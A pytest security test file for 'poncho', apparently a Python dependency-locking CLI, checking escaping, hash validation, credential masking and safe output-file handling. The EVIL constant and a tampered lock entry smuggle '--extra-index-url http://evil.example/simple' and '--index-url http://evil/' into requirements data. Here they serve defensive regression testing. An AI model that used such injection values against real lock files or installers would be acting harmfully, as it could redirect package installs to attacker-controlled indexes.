"""Nothing from the input reaches a lock unescaped, no credential is written or shown, -o writes only a lock.

Each test is an attack or an accident a user reported, run through the real
CLI against the loopback index; the installer-facing check is pip's own
reading of the requirements file (one requirement line per entry).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from poncho.errors import ExitCode
from support.wheels import build_wheel

EVIL = "\n--extra-index-url http://evil.example/simple\nsix==1.16.0 --hash=sha256:" + "0" * 64 + "\n"


def run(*args: str, cwd: Path, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "poncho", *args], cwd=cwd, capture_output=True, text=True,
                          env=dict(os.environ), stdin=subprocess.DEVNULL, timeout=120, **kw)


@pytest.fixture
def served(index_server, tmp_path):
    index_server.add(build_wheel(tmp_path / "wheels", "PyYAML", "6.0", files={"yaml/__init__.py": ""}))
    return index_server


@pytest.fixture
def project(tmp_path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    (root / "job.py").write_text("import yaml\n")
    return root


def _installer_lines(text: str) -> list[str]:
    """What pip acts on: lines that are neither comments nor hash continuations."""
    out = []
    for raw in text.splitlines():
        line = raw.strip()
        if line and not line.startswith(("#", "--hash=")):
            out.append(line)
    return out


def test_a_path_with_line_breaks_stays_inside_its_comment(project, served):
    evil_dir = project / f"pkg{EVIL.replace('/', '_')}"
    evil_dir.mkdir()
    (evil_dir / "mod.py").write_text("import yaml\n")
    proc = run(".", "--index-url", served.url, cwd=project)
    assert proc.returncode == 0, proc.stderr
    assert _installer_lines(proc.stdout) == ["PyYAML==6.0 \\"]
    assert "\\n--extra-index-url" in proc.stdout  # shown, escaped, inside `# via`


def test_a_hash_that_is_not_hex_is_an_index_error(project, served):
    served.hash_overrides["pyyaml-6.0-py3-none-any.whl"] = "ab" * 32 + EVIL
    proc = run("job.py", "--index-url", served.url, "-o", "env.lock", cwd=project)
    assert proc.returncode == ExitCode.INDEX, proc.stderr
    assert "expected 64 hex digits" in proc.stderr and not (project / "env.lock").exists()


def test_a_remote_index_cannot_point_at_local_files(project, served, tmp_path):
    secret = tmp_path / "secret.whl"
    secret.write_bytes(b"not for you")
    served.url_overrides["pyyaml-6.0-py3-none-any.whl"] = secret.as_uri()
    proc = run("job.py", "--index-url", served.url, cwd=project)
    assert proc.returncode == ExitCode.INDEX, proc.stderr
    assert "may only point at http(s) files" in proc.stderr and proc.stdout == ""


def test_credentials_never_reach_a_lock_or_a_message(project, served, tmp_path):
    url = served.url.replace("http://", "http://alice:S3cret@")
    for fmt in ("requirements", "pylock", "conda", "poncho", "json"):
        proc = run("job.py", "--index-url", url, "--format", fmt, cwd=project)
        assert proc.returncode == 0, proc.stderr
        assert "S3cret" not in proc.stdout + proc.stderr, fmt
        assert "alice" not in proc.stdout, fmt
    req = run("job.py", "--index-url", url, cwd=project)
    assert "http://***@127.0.0.1" in req.stdout and "netrc" in req.stdout
    down = run("job.py", "--index-url", "http://alice:S3cret@127.0.0.1:9/simple/", "--no-cache", cwd=project)
    assert down.returncode == ExitCode.INDEX and "S3cret" not in down.stderr and "***@127.0.0.1:9" in down.stderr


def test_output_refuses_the_analyzed_sources_and_special_files(project, served):
    before = (project / "job.py").read_text()
    proc = run(".", "--index-url", served.url, "-o", "job.py", cwd=project)
    assert proc.returncode == ExitCode.USAGE and "part of the analyzed program" in proc.stderr
    assert (project / "job.py").read_text() == before
    fifo = project / "pipe"
    os.mkfifo(fifo)
    proc = run("job.py", "--index-url", served.url, "-o", "pipe", cwd=project)  # would block forever if opened
    assert proc.returncode == ExitCode.USAGE and "not a regular file" in proc.stderr
    assert fifo.is_fifo()


def test_output_through_a_symlink_and_dash_for_stdout(project, served, tmp_path):
    real = tmp_path / "locks" / "env.lock"
    real.parent.mkdir()
    real.write_text("old\n")
    (project / "env.lock").symlink_to(real)
    proc = run("job.py", "--index-url", served.url, "-o", "env.lock", cwd=project)
    assert proc.returncode == 0, proc.stderr
    assert (project / "env.lock").is_symlink() and "PyYAML==6.0" in real.read_text()
    dash = run("job.py", "--index-url", served.url, "-o", "-", cwd=project)
    assert dash.returncode == 0 and "PyYAML==6.0" in dash.stdout and not (project / "-").exists()


def test_a_tampered_json_lock_is_refused(project, served):
    import json

    proc = run("job.py", "--index-url", served.url, "--format", "json", "-o", "lock.json", cwd=project)
    assert proc.returncode == 0, proc.stderr
    data = json.loads((project / "lock.json").read_text())
    data["entries"][0]["artifacts"][0]["sha256"] = "0" * 63 + "\n--index-url http://evil/"
    (project / "lock.json").write_text(json.dumps(data))
    check = run("check", "job.py", "--lock", "lock.json", "--index-url", served.url, cwd=project)
    assert check.returncode == ExitCode.USAGE and "expected 64 hex digits" in check.stderr


def test_output_refuses_project_configuration_and_module_entries(project, served):
    (project / "pyproject.toml").write_text("[project]\nname = 'job'\nversion = '1'\n")
    (project / "pkg").mkdir()
    (project / "pkg" / "__init__.py").write_text("")
    (project / "pkg" / "mod.py").write_text("def main():\n    import yaml\n")
    for target, out in ((".", "pyproject.toml"), ("pkg.mod:main", "pkg/mod.py")):
        before = (project / out).read_text()
        proc = run(target, "--index-url", served.url, "-o", out, cwd=project)
        assert proc.returncode == ExitCode.USAGE, (target, proc.stderr)
        assert (project / out).read_text() == before
    loop = project / "loop"
    loop.symlink_to(loop)  # resolving it raises RuntimeError on Python < 3.13
    proc = run("job.py", "--index-url", served.url, "-o", "loop", cwd=project)
    assert proc.returncode == ExitCode.USAGE and "Traceback" not in proc.stderr
